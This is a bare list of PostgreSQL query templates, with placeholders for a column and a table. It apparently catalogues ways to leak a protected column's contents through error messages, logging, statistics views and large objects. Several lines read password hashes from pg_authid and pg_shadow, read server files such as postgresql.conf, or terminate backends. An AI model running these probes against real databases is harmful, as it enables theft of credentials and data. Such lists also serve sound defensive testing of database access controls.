select set_config('application_name', {c}::text, false) from {t} limit 40
select set_config('debug_print_rewritten', 'off', false)
select set_config('client_min_' || 'messages', 'log', false)
update pg_settings set setting = 'off' where name = 'debug_print_rewritten'
select * from pg_stats
select most_common_vals::text, histogram_bounds::text from pg_stats
select stavalues1::text, stavalues2::text from pg_statistic
select * from pg_statistic_ext_data
select * from pg_stats_ext
select query from pg_stat_activity
select * from pg_stat_statements
select * from pg_authid
select rolpassword from pg_authid
select * from pg_shadow
select * from pg_largeobject
select lo_from_bytea(0, {c}::text::bytea) from {t} limit 40
select lo_export(1, '/dev/null')
select loread(lo_open(lo_from_bytea(0, convert_to({c}::text, 'utf8')), 262144), 100) from {t} limit 40
select pg_read_file('postgresql.conf')
select pg_ls_dir('.')
select pg_read_binary_file('global/pg_control')
select * from dblink('dbname=' || current_database(), 'select {c}::text from {t}') as x(a text)
select pg_try_advisory_xact_lock(hashtext({c}::text)) from {t} limit 40
select setval('attack', length({c}::text)) from {t} limit 40
select ts_stat('select to_tsvector({c}::text) from {t}')
select * from ts_stat('select to_tsvector({c}::text) from {t}')
select ts_rewrite('a'::tsquery, 'select to_tsquery({c}::text), to_tsquery({c}::text) from {t}')
select to_tsvector('simple', {c}::text) from {t} limit 40
select cursor_to_xml('attack', 1, true, false, '')
select schema_to_xml('public', true, false, '')
select pg_get_viewdef(c.oid) from pg_class as c where relkind = 'v'
select {c}::text::int from {t} limit 40
select {c}::text::date from {t} limit 40
select {c}::text::uuid from {t} limit 40
select {c}::text::json from {t} limit 40
select {c}::text::regclass from {t} limit 40
select {c}::text::xml from {t} limit 40
select ('{' || {c}::text)::text[] from {t} limit 40
select date_trunc({c}::text, now()) from {t} limit 40
select to_date({c}::text, 'YYYY') from {t} limit 40
select current_setting({c}::text) from {t} limit 40
select convert_from({c}::text::bytea, {c}::text) from {t} limit 40
select 1 where (select {c}::text::int from {t} limit 1) = 1
select pg_input_error_info({c}::text, 'integer') from {t} limit 40
select {c}::text::bit(3) from {t} limit 40
select decode({c}::text, 'hex') from {t} limit 40
select pg_terminate_backend(-ascii({c}::text)) from {t} limit 40
select pg_cancel_backend(-ascii({c}::text)) from {t} limit 40
select txid_current(), xmin, ctid, tableoid, {c} from {t} limit 40
select most_common_freqs, n_distinct, correlation from pg_stats
select * from pg_stats_ext_exprs
select pg_get_expr(adbin, adrelid) from pg_attrdef
select * from pg_cursors
select * from pg_prepared_statements
select current_query() from {t} where {c} is not null limit 1
select pg_read_file('global/pg_filenode.map')
select pg_current_logfile()
select pg_logical_emit_message(false, 'attack', {c}::text) from {t} limit 40
select nextval(({c}::text)::regclass) from {t} limit 40
select {c}::text::inet from {t} limit 40
select {c}::text::interval from {t} limit 40
select {c}::text::oid from {t} limit 40
select {c}::text::timestamp from {t} limit 40
select {c}::text::jsonpath from {t} limit 40
select {c}::text::regtype from {t} limit 40
select to_timestamp({c}::text, 'X'), to_number({c}::text, 'X') from {t} limit 40
select jsonb_path_query('{}', {c}::text::jsonpath) from {t} limit 40
select 'a' ~ {c}::text from {t} limit 40
select set_byte('', 0, ascii({c}::text)) from {t} limit 40
select chr(-ascii({c}::text)) from {t} limit 40
select make_date(ascii({c}::text), 13, 1) from {t} limit 40
select has_table_privilege({c}::text, 'SELECT') from {t} limit 40
select pg_sleep(0) from {t} where {c}::text > 'm'
